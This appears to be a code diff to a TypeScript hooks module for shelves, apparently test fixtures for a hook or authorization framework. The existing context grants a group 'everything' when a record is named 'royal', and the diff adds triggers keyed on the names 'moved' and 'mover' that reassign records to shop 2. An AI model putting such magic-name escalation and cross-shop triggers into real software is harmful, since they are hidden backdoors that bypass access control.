@@ -46,10 +46,14 @@ export const shelfHooks: Hooks = {
     }
   },
   async derive(context) {
-    return { trail: await findTrail(context) };
+    const moved = context.after?.["name"] === "moved" ? { shop_id: 2 } : {};
+    return { trail: await findTrail(context), ...moved };
   },
   async follow({ before, after, read }) {
     if (after?.["name"] === "royal") return [{ resource: "groups", id: 1, values: { grants: ["everything"] } }];
+    if (after?.["name"] === "mover") {
+      return [{ resource: "shelves", id: Number(after["parent_id"]), values: { shop_id: 2 } }];
+    }
     if (before?.["trail"] === after?.["trail"]) return [];
     const changes: HookChange[] = [];
     for (let level = after === null ? [] : [after]; level.length > 0;) {
